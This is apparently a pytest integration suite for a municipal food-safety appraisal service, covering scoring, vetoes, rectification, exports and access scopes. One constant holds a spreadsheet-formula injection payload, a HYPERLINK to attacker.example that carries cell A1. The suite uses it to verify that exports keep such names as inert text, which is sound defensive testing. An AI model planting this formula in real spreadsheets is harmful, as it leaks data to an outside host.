"""A whole Zhumadian year in process (tokens as the gateway signs them), from opening to rectification,
with a veto in one county and in a zone; and who may see and write what."""

from __future__ import annotations

import hashlib
import io
from typing import Any

import httpx
import pytest
from docx import Document
from openpyxl import load_workbook

from platformctl.testing import assert_problem
from shared.testing import ServiceInProcess
from shared.testing_documents import assert_a4_landscape, pdf_pages, pdf_text, render_with_libreoffice

BASE = "/api/appraisal/v1"
COUNTIES = ["411702", *(f"4117{n}" for n in range(21, 30))]
ZONES = ["411700-Z01", "411700-Z02", "411700-Z03"]
MARKET = "市市场监管局"
FARMING = "市农业农村局"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PDF = b"%PDF-1.4\n% evidence\n%%EOF\n"
RW = ["appraisal:read", "appraisal:write"]
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
# what the year's scenario exported, for the rendering test after it
PRINTED: dict[str, Any] = {}
FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'


@pytest.fixture
def service(appraisal_service: ServiceInProcess) -> ServiceInProcess:
    """Appraisal in this process, what a test writes rolled back at its end."""
    return appraisal_service


@pytest.fixture
async def users(service: ServiceInProcess) -> dict[str, dict[str, str]]:
    return {
        "city": await service.account("zmd-food-office", scopes=RW, jurisdictions=["411700"]),
        "market": await service.account("zmd-market", scopes=RW, jurisdictions=["411700"], units=[MARKET]),
        "farming": await service.account("zmd-farming", scopes=RW, jurisdictions=["411700"], units=[FARMING]),
        "xiping": await service.account("zmd-411721", scopes=RW, jurisdictions=["411721"]),
        "shangcai": await service.account("zmd-411722", scopes=RW, jurisdictions=["411722"]),
        "panjin": await service.account("pj-food-office", scopes=RW, jurisdictions=["211100"]),
        "shuangtaizi": await service.account("pj-211102", scopes=RW, jurisdictions=["211102"]),
        "panjin-market": await service.account(
            "pj-market", scopes=RW, jurisdictions=["211100"], units=["盘锦市市场监管局"]
        ),
    }


def ok(response: httpx.Response, status: int = 201) -> Any:
    assert response.status_code == status, response.text
    return response.json()


async def move(client: httpx.AsyncClient, year: int, to: str, **extra: Any) -> None:
    ok(await client.post(f"{BASE}/years/{year}/transitions", json={"to": to, **extra}))


async def test_a_zhumadian_year_from_opening_to_rectification(
    service: ServiceInProcess, users: dict[str, dict[str, str]]
) -> None:
    year = 2024
    years = f"{BASE}/years/{year}"
    city = service.client(headers=users["city"])
    market = service.client(headers=users["market"])
    farming = service.client(headers=users["farming"])
    xiping = service.client(headers=users["xiping"])
    shangcai = service.client(headers=users["shangcai"])
    async with city, market, farming, xiping, shangcai:
        opened = ok(
            await city.post(f"{BASE}/years", json={"scheme": "zhumadian", "year": year, "ad_hoc_cap": 10})
        )
        assert opened["document"] == "驻政办〔2023〕36号"
        ok(
            await city.post(
                f"{years}/rules-publication",
                json={"document": "detailed_rules", "published_on": "2024-08-20"},
            )
        )
        ok(await city.post(f"{years}/subjects", json={"code": "wsjkw", "name": "市卫生健康委"}))
        # a subject named like a spreadsheet formula stays text in every export
        ok(await city.post(f"{years}/subjects", json={"code": "formula", "name": FORMULA_NAME}))
        for code, name, area, points, department in (
            ("basic-work", "食品安全工作落实情况", 1, 60, MARKET),
            ("status", "食品安全状况", 2, 40, FARMING),
            ("ad-hoc", "即时性工作", 3, 10, MARKET),
        ):
            ok(
                await city.post(
                    f"{years}/indicators",
                    json={
                        "code": code,
                        "name": name,
                        "content_area": area,
                        "max_points": points,
                        "department": department,
                    },
                )
            )
        too_many = await city.post(
            f"{years}/indicators",
            json={"code": "extra", "name": "额外", "content_area": 1, "max_points": 1, "department": MARKET},
        )
        assert "above the cap of 100" in assert_problem(too_many, 409)["detail"]

        # 日常考核: each department scores its own indicators
        for index, code in enumerate(COUNTIES):
            for indicator, points, client in (
                ("basic-work", 59 - index, market),
                ("status", 35, farming),
                ("ad-hoc", 8, market),
            ):
                ok(
                    await client.post(
                        f"{years}/score-entries",
                        json={
                            "subject": code,
                            "indicator": indicator,
                            "points": points,
                            "method": "unannounced_visit",
                        },
                    )
                )
        for code in ZONES:
            for indicator, points, client in (
                ("basic-work", 50, market),
                ("status", 30, farming),
                ("ad-hoc", 5, market),
            ):
                ok(
                    await client.post(
                        f"{years}/score-entries",
                        json={
                            "subject": code,
                            "indicator": indicator,
                            "points": points,
                            "method": "materials_review",
                        },
                    )
                )
        ok(
            await market.post(
                f"{years}/score-entries",
                json={"subject": "wsjkw", "indicator": "basic-work", "points": 55, "method": "supervision"},
            )
        )
        not_theirs = await market.post(
            f"{years}/score-entries",
            json={"subject": "411721", "indicator": "status", "points": 1, "method": "supervision"},
        )
        assert_problem(not_theirs, 403)
        seen_by_farming = ok(await farming.get(f"{years}/score-entries", params={"limit": 200}), 200)
        assert seen_by_farming["total"] == 13
        assert {item["department"] for item in seen_by_farming["items"]} == {FARMING}
        assert ok(await xiping.get(f"{years}/score-entries"), 200)["total"] == 0
        entry = seen_by_farming["items"][0]
        hidden = await market.get(f"{years}/score-entries/{entry['id']}")
        assert_problem(hidden, 404)

        await move(city, year, "mid_year_review", reason="年中督促")
        ok(
            await city.post(
                f"{years}/subjects/411726/mid-year-review",
                json={
                    "reviewed_on": "2024-07-10",
                    "key_tasks": "重点任务推进滞后",
                    "last_year_rectified": False,
                },
            )
        )
        await move(city, year, "status_evaluation")
        ok(
            await farming.post(
                f"{years}/subjects/411721/status-evaluation",
                json={
                    "satisfaction": "86.5",
                    "food_sampling_pass_rate": 98.7,
                    "farm_produce_monitoring_pass_rate": "99.1",
                },
            )
        )
        await move(city, year, "self_evaluation")
        self_evaluation = ok(
            await xiping.post(
                f"{years}/subjects/411721/self-evaluation",
                json={
                    "statement": "全面落实属地管理责任",
                    "items": [{"indicator": "basic-work", "points": 60}],
                },
            )
        )
        assert self_evaluation["items"] == [{"indicator": "basic-work", "points": "60", "note": None}]
        uploaded = ok(
            await xiping.post(
                f"{years}/subjects/411721/evidence",
                files={"file": ("自评报告.pdf", PDF, "application/pdf")},
                data={"purpose": "self_evaluation"},
            )
        )
        assert uploaded["sha256"] == hashlib.sha256(PDF).hexdigest()
        assert_problem(await shangcai.get(f"{years}/subjects/411721/self-evaluation"), 404)
        assert_problem(
            await shangcai.post(
                f"{years}/subjects/411721/self-evaluation", json={"statement": "冒名", "items": []}
            ),
            404,
        )
        assert_problem(
            await city.post(
                f"{years}/subjects/411722/self-evaluation", json={"statement": "代填", "items": []}
            ),
            403,
        )
        reviewed = ok(await market.get(f"{years}/subjects/411721/self-evaluation"), 200)
        assert [f["filename"] for f in reviewed["evidence"]] == ["自评报告.pdf"]

        await move(city, year, "department_review")
        ok(
            await market.post(
                f"{years}/review-opinions",
                json={
                    "subject": "411721",
                    "indicator": "basic-work",
                    "opinion": "自评偏高，核减",
                    "points": "52.5",
                },
            )
        )
        await move(city, year, "comprehensive_evaluation")
        ok(
            await city.post(
                f"{years}/subjects/411702/adjustments",
                json={"component": "bonus", "points": 2, "reason": "创新性示范经验做法"},
            )
        )
        provincial = await city.post(
            f"{years}/subjects/411702/adjustments",
            json={"component": "bonus", "points": 1, "provincial": True, "reason": "省级加分"},
        )
        assert "no rule counting the province's points double" in assert_problem(provincial, 409)["detail"]
        proof = ok(
            await city.post(
                f"{years}/subjects/411729/evidence",
                files={"file": ("事故调查报告.pdf", PDF, "application/pdf")},
                data={"purpose": "circumstance"},
            )
        )
        veto = ok(
            await city.post(
                f"{years}/subjects/411729/circumstances",
                json={
                    "circumstance": "zhumadian-11-3",
                    "evidence": "迟报较大食品安全事故",
                    "evidence_files": [proof["id"]],
                },
            )
        )
        assert veto["effect"] == "veto"
        assert veto["citation"] == "驻政办〔2023〕36号 第十一条（三）"
        ok(
            await city.post(
                f"{years}/subjects/411700-Z01/circumstances",
                json={"circumstance": "zhumadian-11-1", "evidence": "发生重大食品安全事故"},
            )
        )
        ok(
            await city.post(
                f"{years}/subjects/411722/circumstances",
                json={"circumstance": "zhumadian-10-7", "evidence": "自评材料弄虚作假"},
            )
        )
        wrong_city = await city.post(
            f"{years}/subjects/411723/circumstances",
            json={"circumstance": "panjin-8-3-1", "evidence": "盘锦的条款"},
        )
        assert_problem(wrong_city, 409)

        evaluated = ok(await city.post(f"{years}/evaluation"), 200)
        results = {r["subject"]: r for r in evaluated["results"]}
        assert (results["411702"]["total"], results["411702"]["rank"], results["411702"]["grade"]) == (
            "104.0",
            1,
            "A",
        )
        assert (results["411722"]["rank"], results["411722"]["grade"]) == (2, "B")  # downgraded from A
        assert (results["411721"]["total"], results["411721"]["rank"]) == ("95.5", 7)
        assert (results["411729"]["rank"], results["411729"]["grade"]) == (10, "D")
        assert [p["kind"] for p in results["411729"]["problems"]] == ["veto"]
        zone = results["411700-Z01"]
        assert (zone["total"], zone["rank"], zone["grade"], zone["veto"]) == ("85.0", None, None, True)
        assert zone["problems"][0]["citation"] == "驻政办〔2023〕36号 第十一条（一）"
        department = results["wsjkw"]
        assert (department["total"], department["rank"], department["grade"]) == ("55.0", None, None)
        assert department["applied"][-1]["rule"] == "subject_kind_exclusion"

        await move(city, year, "published", effective_on="2025-01-20")
        await move(city, year, "rectification")
        on_time = ok(
            await xiping.post(
                f"{years}/subjects/411721/rectification",
                json={
                    "summary": "针对通报问题逐项整改",
                    "measures": [{"measure": "补齐食品安全员配备", "due_on": "2025-06-30"}],
                    "submitted_on": "2025-02-10",
                },
            )
        )
        assert (on_time["due_on"], on_time["on_time"]) == ("2025-02-20", True)
        late = ok(
            await shangcai.post(
                f"{years}/subjects/411722/rectification",
                json={
                    "summary": "整改弄虚作假问题",
                    "measures": [{"measure": "追责问责", "due_on": "2025-04-30"}],
                    "submitted_on": "2025-03-01",
                },
            )
        )
        assert late["on_time"] is False
        statuses = {
            s["subject"]: s["status"] for s in ok(await city.get(f"{years}/rectifications"), 200)["items"]
        }
        assert statuses["411721"] == "submitted"
        assert statuses["411722"] == "late"
        assert statuses["411729"] == "overdue"
        assert statuses["411700-Z01"] == "overdue"
        assert "wsjkw" not in statuses
        own_status = ok(await xiping.get(f"{years}/rectifications"), 200)["items"]
        assert [(s["subject"], s["status"]) for s in own_status] == [("411721", "submitted")]

        consequences = ok(await city.get(f"{years}/consequences"), 200)
        assert {f["subject"] for f in consequences["commendations"] if f["reason"] == "grade_a"} == {
            "411702",
            "411723",
            "411724",
        }
        assert [(f["subject"], f["reason"]) for f in consequences["leader_interviews"]] == [
            ("411729", "grade_d")
        ]
        assert [f["subject"] for f in consequences["barred_from_awards"]] == ["411729"]
        assert [(f["subject"], f["reason"]) for f in consequences["office_head_interviews"]] == [
            ("411726", "unresolved_rectification")
        ]
        assert [(f["subject"], f["reason"]) for f in consequences["criticisms"]] == [("411722", "fraud")]
        overdue = {f["subject"]: f["reason"] for f in consequences["rectification"]}
        assert overdue["411722"] == "report_late"
        assert overdue["411729"] == "report_missing"
        assert "411721" not in overdue
        assert [f["detail"].split(" ")[0] for f in consequences["rules_not_published"]] == [
            "本年度食品安全工作考核方案"
        ]
        assert_problem(await xiping.get(f"{years}/consequences"), 403)

        as_json = ok(await city.get(f"{years}/results"), 200)
        assert [r["subject"] for r in as_json["results"]][:2] == ["411702", "411722"]
        workbook = await city.get(f"{years}/results", headers={"Accept": XLSX})
        assert workbook.headers["content-type"] == XLSX
        opened = load_workbook(io.BytesIO(workbook.content))
        assert opened.sheetnames == ["考核结果", "适用规则"]
        sheet = opened["考核结果"]
        title = f"关于{year}年度食品安全工作考核结果的通报"
        assert sheet["A1"].value == title
        assert "驻马店市食品安全委员会办公室" in sheet["A2"].value
        assert sheet.print_title_rows == "$1:$2"
        assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"
        assert len(sheet._charts) == 2
        rows = list(sheet.iter_rows(min_row=6, values_only=True))
        assert rows[0][:4] == ("驿城区", "411702", "县区政府", 1)
        assert rows[0][4] == 94
        assert (rows[0][10], rows[0][11]) == (104, "A")
        vetoed = next(r for r in sheet.iter_rows(min_row=6) if r[1].value == "411729")
        assert vetoed[0].fill.fgColor.rgb.endswith("F8CBAD"), "a vetoed county is highlighted"
        # the formula-named subject is a text cell with Excel's quote prefix, never a formula
        (formula,) = [r[0] for r in sheet.iter_rows() if r[0].value == FORMULA_NAME]
        assert formula.data_type == "s"
        assert formula.quotePrefix
        assert all(c.data_type != "f" for each in opened for r in each.iter_rows() for c in r)
        text = "\n".join(str(c.value) for r in sheet.iter_rows() for c in r if c.value)
        assert "约谈县区政府负责同志" in text, "the consequences of the published year"
        assert_problem(await city.get(f"{years}/results", headers={"Accept": "text/csv"}), 406)
        document = await city.get(f"{years}/results", headers={"Accept": DOCX})
        assert document.headers["content-type"] == DOCX
        pdf = await city.get(f"{years}/results", params={"format": "pdf"})
        assert pdf.headers["content-type"] == "application/pdf"
        paragraphs = [p.text for p in Document(io.BytesIO(document.content)).paragraphs]
        assert title in paragraphs
        assert any("约谈县区政府负责同志" in p for p in paragraphs)
        names = {r["name"] for r in as_json["results"]}
        printed = pdf_text(pdf.content)
        assert pdf_pages(pdf.content) <= 4
        assert all(name in printed for name in names - {FORMULA_NAME})
        assert_a4_landscape(pdf.content)
        PRINTED.update(
            files={"results.xlsx": workbook.content, "results.docx": document.content}, title=title
        )
        own = ok(await xiping.get(f"{years}/results"), 200)
        assert [r["subject"] for r in own["results"]] == ["411721"]
        assert ok(await xiping.get(f"{years}/subjects"), 200)["total"] == 1


async def test_the_results_print_as_staff_would_print_them() -> None:
    """The XLSX and DOCX of the year's results, printed to PDF by LibreOffice: at most 4 A4
    landscape pages, none blank, with the title and the first-ranked county."""
    if not PRINTED:
        pytest.skip("the year's scenario above did not run (this test prints its results)")
    rendered = render_with_libreoffice(PRINTED["files"])
    for name, content in rendered.items():
        pages = pdf_pages(content)
        assert 1 <= pages <= 4, f"{name} prints on {pages} pages"
        assert_a4_landscape(content)
        flat = pdf_text(content).replace("\n", "").replace(" ", "")
        assert PRINTED["title"] in flat, name
        assert "驿城区" in flat, name


async def test_county_and_department_scopes_through_the_gateway(
    service: ServiceInProcess, users: dict[str, dict[str, str]]
) -> None:
    year = 2106
    years = f"{BASE}/years/{year}"
    async with (
        service.client(headers=users["panjin"]) as city,
        service.client(headers=users["shuangtaizi"]) as county,
        service.client(headers=users["panjin-market"]) as department,
        service.client(headers=users["city"]) as zhumadian,
    ):
        assert_problem(await county.post(f"{BASE}/years", json={"scheme": "panjin", "year": year}), 403)
        ok(await city.post(f"{BASE}/years", json={"scheme": "panjin", "year": year}))
        assert_problem(await zhumadian.get(years), 404)
        assert ok(await county.get(years), 200)["scheme"] == "panjin"
        visible = ok(await county.get(f"{years}/subjects"), 200)
        assert [s["code"] for s in visible["items"]] == ["211102"]
        assert_problem(await county.get(f"{years}/subjects/211103"), 404)
        assert ok(await department.get(f"{years}/subjects"), 200)["total"] == 4
        assert_problem(await county.post(f"{years}/transitions", json={"to": "mid_year_review"}), 403)
        ok(
            await city.post(
                f"{years}/indicators",
                json={
                    "code": "basic",
                    "name": "基础工作",
                    "content_area": 1,
                    "max_points": 40,
                    "department": "盘锦市市场监管局",
                },
            )
        )
        ok(
            await city.post(
                f"{years}/indicators",
                json={
                    "code": "key",
                    "name": "重点工作",
                    "content_area": 2,
                    "max_points": 40,
                    "department": "盘锦市农业农村局",
                },
            )
        )
        entry = ok(
            await department.post(
                f"{years}/score-entries",
                json={"subject": "211103", "indicator": "basic", "points": 30, "method": "online_spot_check"},
            )
        )
        assert_problem(
            await department.post(
                f"{years}/score-entries",
                json={"subject": "211103", "indicator": "key", "points": 30, "method": "online_spot_check"},
            ),
            403,
        )
        over = await department.post(
            f"{years}/score-entries",
            json={"subject": "211104", "indicator": "basic", "points": 41, "method": "online_spot_check"},
        )
        assert "exceeds the 40 points" in assert_problem(over, 409)["detail"]
        assert_problem(
            await county.post(
                f"{years}/score-entries",
                json={"subject": "211102", "indicator": "basic", "points": 40, "method": "online_spot_check"},
            ),
            403,
        )
        read = await department.get(f"{years}/score-entries/{entry['id']}")
        etag = read.headers["ETag"]
        changed = await department.patch(
            f"{years}/score-entries/{entry['id']}", json={"points": "32.5"}, headers={"If-Match": etag}
        )
        assert ok(changed, 200)["points"] == "32.5"
        assert_problem(
            await department.patch(
                f"{years}/score-entries/{entry['id']}", json={"points": 1}, headers={"If-Match": etag}
            ),
            412,
        )
        for stage in ("mid_year_review", "status_evaluation", "self_evaluation"):
            await move(city, year, stage)
        ok(
            await county.post(
                f"{years}/subjects/211102/self-evaluation", json={"statement": "自评", "items": []}
            )
        )
        assert_problem(
            await county.post(
                f"{years}/subjects/211103/self-evaluation", json={"statement": "越权", "items": []}
            ),
            404,
        )
        assert_problem(
            await department.post(
                f"{years}/subjects/211103/self-evaluation", json={"statement": "越权", "items": []}
            ),
            403,
        )
